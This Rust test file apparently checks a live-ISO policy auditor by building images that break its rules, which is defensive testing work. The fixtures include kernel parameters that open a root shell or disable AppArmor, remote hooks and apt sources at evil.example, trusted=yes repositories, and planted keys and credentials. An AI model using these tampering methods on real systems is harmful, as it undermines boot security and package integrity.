//! Images that break the policy by something that no entry names, or that an entry names beside the root.

use crate::make::{GRUB, append, cpio, entry, evil, fat, good, pe, squashfs};
use crate::support::Tree;
use crate::{Case, check, sources, wanted};
use std::fs;

fn case(name: &'static str, rule: &'static str, says: &'static str, make: fn(&Tree)) -> Case {
    Case { name, rule, says, make }
}

fn unclear(name: &'static str, says: &'static str, make: fn(&Tree)) -> Case {
    case(name, "cannot-tell", says, make)
}

/// An entry with all parameters of the policy, and more.
fn also(tree: &Tree, more: &str) {
    evil(tree, &format!("linux /live/vmlinuz {} {more}", good()));
}

#[test]
#[ignore = "needs mksquashfs, xorriso: cargo xtask test --full"]
fn parameters_that_start_something_else() {
    check(&[
        unclear("init", "init=/bin/sh runs something else", |t| also(t, "init=/bin/sh")),
        unclear("rdinit", "rdinit=/x", |t| also(t, "rdinit=/x")),
        unclear("break", "rd.break", |t| also(t, "rd.break")),
        unclear("debug-shell", "systemd.debug_shell", |t| also(t, "systemd.debug-shell=1")),
        unclear("rescue", "systemd.unit=rescue.target", |t| also(t, "systemd.unit=rescue.target")),
        unclear("single", "single runs", |t| also(t, "single")),
        unclear("mask", "systemd.mask=apparmor.service", |t| {
            also(t, "systemd.mask=apparmor.service");
        }),
        unclear("no-apparmor", "apparmor=0", |t| also(t, "apparmor=0")),
        unclear("other-modules", "lsm=lockdown", |t| also(t, "lsm=lockdown,yama")),
        unclear("module", "module_blacklist=tirdad", |t| also(t, "module-blacklist=tirdad")),
        unclear("initcall", "initcall_blacklist", |t| also(t, "initcall_blacklist=a")),
        unclear("persistence", "persistence runs", |t| also(t, "boot=live persistence")),
        unclear("overlay-of-a-disk", "rd.live.overlay=LABEL=x", |t| {
            also(t, "rd.live.image root=live:CDLABEL=TEST rd.live.overlay=LABEL=x");
        }),
        unclear("hooks", "hooks=http://evil.example/x", |t| {
            also(t, "boot=live hooks=http://evil.example/x");
        }),
        unclear("medium-of-another-label", "root=live:CDLABEL=OTHER", |t| {
            also(t, "rd.live.image root=live:CDLABEL=OTHER");
        }),
        unclear("medium-on-a-disk", "root=live:/dev/sda1", |t| also(t, "root=live:/dev/sda1")),
        unclear("live-image-on-a-disk", "root=/dev/sda1", |t| {
            also(t, "rd.live.image root=/dev/sda1");
        }),
        unclear("folder-that-is-not-there", "evil/*.squashfs", |t| {
            also(t, "boot=live live-media-path=/evil");
        }),
        case("folder-of-another-root", "package-sources", "evil/x.squashfs: no package", |t| {
            squashfs(t, "iso/evil/x.squashfs", &[("etc/x", "")]);
            also(t, "boot=live live-media-path=evil");
        }),
        case("dracut-folder", "package-sources", "evil/squashfs.img: no package", |t| {
            squashfs(t, "iso/evil/squashfs.img", &[("etc/x", "")]);
            also(t, "rd.live.image root=live:CDLABEL=TEST rd.live.dir=evil");
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso, mtools: cargo xtask test --full"]
fn files_that_no_entry_names() {
    check(&[
        unclear("credential-of-systemd-boot", "loader/credentials/x.cred", |t| {
            let files: [(&str, &[u8]); 1] = [("loader/credentials/x.cred", b"x")];
            fat(t, "iso/boot/efi.img", &files);
        }),
        unclear("credential-of-a-kernel", "x.efi.extra.d/y.cred", |t| {
            t.write("iso/EFI/Linux/x.efi.extra.d/y.cred", "x");
        }),
        unclear("extension-of-a-kernel", "an extension of a unified", |t| {
            t.write("iso/EFI/Linux/x.efi.extra.d/y.raw", "x");
        }),
        unclear("script-of-the-firmware", "STARTUP.NSH", |t| {
            fat(t, "iso/boot/efi.img", &[("STARTUP.NSH", b"live\\vmlinuz mitigations=off\r\n")]);
        }),
        unclear("settings-on-the-medium", "live/config.conf", |t| {
            t.write("iso/live/config.conf", "LIVE_HOOKS=x\n");
        }),
        unclear("scripts-on-the-medium", "live/config-hooks/1", |t| {
            t.write("iso/live/config-hooks/1", "#!/bin/sh\n");
        }),
        case("second-profile-of-a-kernel", "kernel-parameters", "lacks slab_nomerge", |t| {
            let line = good();
            let sections: [(&str, &[u8]); 5] = [
                (".linux", b"x"),
                (".cmdline", line.as_bytes()),
                (".profile", b"ID=main"),
                (".profile", b"ID=evil"),
                (".cmdline", b"quiet"),
            ];
            t.bytes("iso/EFI/Linux/x.efi", &pe(&sections));
        }),
        unclear("other-systems-by-grub", "multiboot2", |t| {
            append(t, GRUB, &entry("X", "multiboot2 /boot/xen\nmodule2 /live/vmlinuz quiet"));
        }),
        unclear("script-in-another-language", "`lua`", |t| append(t, GRUB, "lua /boot/x.lua\n")),
        case("entries-of-systemd-boot-by-grub", "kernel-parameters", "lacks", |t| {
            append(t, GRUB, "insmod blscfg\nblscfg\n");
            t.write("iso/loader/entries/x.conf", "title x\nlinux /live/vmlinuz\noptions quiet\n");
        }),
        case("isolinux-by-grub", "kernel-parameters", "lacks", |t| {
            append(t, GRUB, "syslinux_configfile /boot/menu\n");
            t.write("iso/boot/menu", "default /live/vmlinuz quiet\n");
        }),
        case("on-timeout", "kernel-parameters", "lacks", |t| {
            let text = format!(
                "ONTIMEOUT /live/vmlinuz quiet\nLABEL x\n KERNEL /live/vmlinuz\n APPEND {}\n",
                good()
            );
            t.write("iso/isolinux/isolinux.cfg", &text);
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso: cargo xtask test --full"]
fn an_initramfs_brings_more_than_a_root() {
    check(&[
        case("machine-id-of-run", "machine-id", "run/machine-id", |t| {
            t.bytes("iso/live/initrd.img", &cpio(&[("run/machine-id", b"0123456789")]));
        }),
        case("credential", "credentials", ".extra/credentials/x.cred", |t| {
            t.bytes("iso/live/initrd.img", &cpio(&[(".extra/credentials/x.cred", b"x")]));
        }),
        unclear("extension", ".extra/confext/x.raw", |t| {
            t.bytes("iso/live/initrd.img", &cpio(&[(".extra/confext/x.raw", b"x")]));
        }),
        unclear("settings-of-initramfs-tools", "conf/conf.d/x", |t| {
            t.bytes("iso/live/initrd.img", &cpio(&[("conf/conf.d/x", b"ROOT=/dev/sda1\n")]));
        }),
        unclear("settings-of-live-boot", "etc/live/boot.conf", |t| {
            let text: &[u8] = b"LIVE_MEDIA_PATH=evil\n";
            t.bytes("iso/live/initrd.img", &cpio(&[("etc/live/boot.conf", text)]));
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso: cargo xtask test --full"]
fn extensions_over_the_root() {
    check(&[
        unclear("extension-as-a-folder", "var/lib/confexts/x", |t| {
            let list = "deb http://evil.example/ x main\n";
            t.write("var/lib/confexts/x/etc/apt/sources.list.d/e.list", list);
        }),
        unclear("extension-as-an-image", "etc/extensions/x.raw", |t| {
            t.write("etc/extensions/x.raw", "x");
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso: cargo xtask test --full"]
fn apt_takes_packages_from_elsewhere() {
    check(&[
        case("unsigned", "package-sources", "need no signature", |t| {
            let host = &wanted("package_hosts")[0];
            let text = format!("deb [trusted=yes] http://{host}/debian trixie main\n");
            t.write("etc/apt/sources.list", &text);
        }),
        case("unsigned-deb822", "package-sources", "need no signature", |t| {
            let text = sources("trixie-backports").replace("Suites:", "Trusted: yes\nSuites:");
            t.write("etc/apt/sources.list.d/x.sources", &text);
        }),
        case("a-host-in-front", "package-sources", "evil.example", |t| {
            let host = &wanted("package_hosts")[0];
            let text = format!("deb https://{host}:443@evil.example/debian trixie main\n");
            t.write("etc/apt/sources.list", &text);
        }),
        case("local", "package-sources", "file:/opt", |t| {
            t.write("etc/apt/sources.list.d/l.list", "deb file:/opt/repository ./\n");
        }),
        unclear("through-a-proxy", "Proxy", |t| {
            t.write("etc/apt/apt.conf.d/p", "Acquire::http::Proxy \"http://evil.example:1\";\n");
        }),
        unclear("unsigned-lists", "AllowInsecureRepositories", |t| {
            t.write("etc/apt/apt.conf.d/p", "Acquire::AllowInsecureRepositories \"true\";\n");
        }),
        unclear("other-settings", "etc/environment", |t| {
            t.write("etc/environment", "APT_CONFIG=/opt/apt.conf\n");
        }),
        case("password", "credentials", "etc/apt/auth.conf.d/x.conf", |t| {
            t.write("etc/apt/auth.conf.d/x.conf", "machine h login u password p\n");
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso: cargo xtask test --full"]
fn keys_under_other_names() {
    check(&[
        case("host-key-elsewhere", "host-keys", "/usr/share/doc/laptop/example.pem", |t| {
            t.write(
                "etc/ssh/sshd_config.d/x.conf",
                "hostkey=\"/usr/share/doc/laptop/example.pem\"\n",
            );
        }),
        unclear("settings-elsewhere", "/opt/x.conf", |t| {
            t.write("etc/ssh/sshd_config", "Include /opt/x.conf\n");
        }),
        case("tinyssh", "host-keys", "sshkeydir/.ed25519.sk", |t| {
            t.write("etc/tinyssh/sshkeydir/.ed25519.sk", "k");
        }),
        case("wireless-network", "credentials", "system-connections/home", |t| {
            t.write("etc/NetworkManager/system-connections/home", "psk=x\n");
        }),
        case("credential-store", "credentials", "etc/credstore/passwd", |t| {
            t.write("etc/credstore/passwd.hashed-password.root", "x\n");
        }),
        case("id-behind-a-name-with-dots", "machine-id", "etc/machine-id", |t| {
            fs::remove_file(t.path("etc/machine-id")).unwrap();
            t.link("etc/machine-id", "../var/../opt/./id");
            t.write("opt/id", "0123456789\n");
        }),
    ]);
}
